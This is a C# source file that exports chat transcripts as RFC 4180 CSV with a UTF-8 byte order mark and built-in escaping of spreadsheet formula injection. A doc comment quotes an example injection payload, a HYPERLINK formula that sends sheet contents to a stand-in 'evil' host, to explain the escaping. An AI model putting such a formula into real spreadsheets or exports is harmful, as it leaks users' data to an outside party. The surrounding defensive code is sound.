using System.Globalization;
using ChatTranscripts.Pipeline.Logic.Transcripts.Rendering;
using CsvHelper;

namespace ChatTranscripts.Pipeline.Logic.Transcripts.Exports;

/// <summary>
/// The bytes of <c>transcript.csv</c>: a header row, then one row per shown post in the document's order, as RFC 4180
/// says (comma separated, CRLF after every row, fields with a comma, quote or line break quoted, quotes doubled).
/// The same document always gives the same bytes.
/// </summary>
/// <remarks>
/// <para>
/// The file starts with a UTF-8 byte order mark. Excel opens a CSV without one in the machine's legacy code page, so
/// every name or post outside ASCII would show as mojibake for the people most likely to double-click this file;
/// with the mark it reads UTF-8. RFC 4180 does not forbid it, and CSV readers (CsvHelper, Python's <c>utf-8-sig</c>,
/// pandas, LibreOffice, Google Sheets) skip it; a reader that does not sees <c>\uFEFFid</c> as the first column's name.
/// </para>
/// <para>
/// Spreadsheet users open this file, and a cell that starts with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a CR
/// is run as a formula (OWASP "CSV injection"): a post reading <c>=HYPERLINK("http://evil/?"&amp;A1, "click")</c> would
/// become a live link that leaks the sheet. Such fields are written with a leading apostrophe, which spreadsheets
/// read as "this cell is text". That makes those few fields differ from the post by that apostrophe;
/// <c>transcript.json</c> stays the exact record.
/// </para>
/// </remarks>
public static class TranscriptCsv
{
    public const string FileName = "transcript.csv";

    /// <summary>The columns, in order: snake_case versions of transcript.json's post fields, the author's flattened.</summary>
    public static IReadOnlyList<string> Columns { get; } =
    [
        "id", "platform", "platform_id", "url", "created_at", "edited_at",
        "author_handle", "author_display_name", "author_role", "kind",
        "question", "answers_question", "in_reply_to_id", "quoted_id", "thread_root_id",
        "lang", "hashtags", "mentions", "urls", "text",
    ];

    private static readonly CsvWriterOptions Options = new()
    {
        Mode = CsvMode.Rfc4180,
        Separator = ',',
        NewLine = "\r\n",
        WriteByteOrderMark = true,
        Injection = CsvInjection.Escape,
        FormatProvider = CultureInfo.InvariantCulture,
    };

    public static byte[] Serialize(TranscriptDocument transcript)
    {
        using var buffer = new MemoryStream();
        using (var csv = CsvWriter.Create(buffer, Options, leaveOpen: true))
        {
            csv.WriteHeader([.. Columns]);
            foreach (var post in transcript.Posts)
            {
                csv.WriteRecord(Row(post));
            }
        }
        return buffer.ToArray();
    }

    private static string[] Row(TranscriptPost post) =>
    [
        post.Id,
        post.Platform,
        post.PlatformId,
        post.Url ?? "",
        SessionClock.MachineReadable(post.CreatedAt),
        post.EditedAt is { } edited ? SessionClock.MachineReadable(edited) : "",
        post.Author.Handle,
        post.Author.DisplayName ?? "",
        post.Author.Role,
        post.Kind,
        Number(post.Question),
        Number(post.AnswersQuestion),
        post.InReplyToId ?? "",
        post.QuotedId ?? "",
        post.ThreadRootId,
        post.Lang ?? "",
        List(post.Hashtags),
        List(post.Mentions),
        List(post.Urls),
        post.Text,
    ];

    private static string Number(int? value) => value?.ToString(CultureInfo.InvariantCulture) ?? "";

    /// <summary>Hashtags, handles and URLs never contain a space, so one space separates them without ambiguity.</summary>
    private static string List(IReadOnlyList<string> values) => string.Join(' ', values);
}
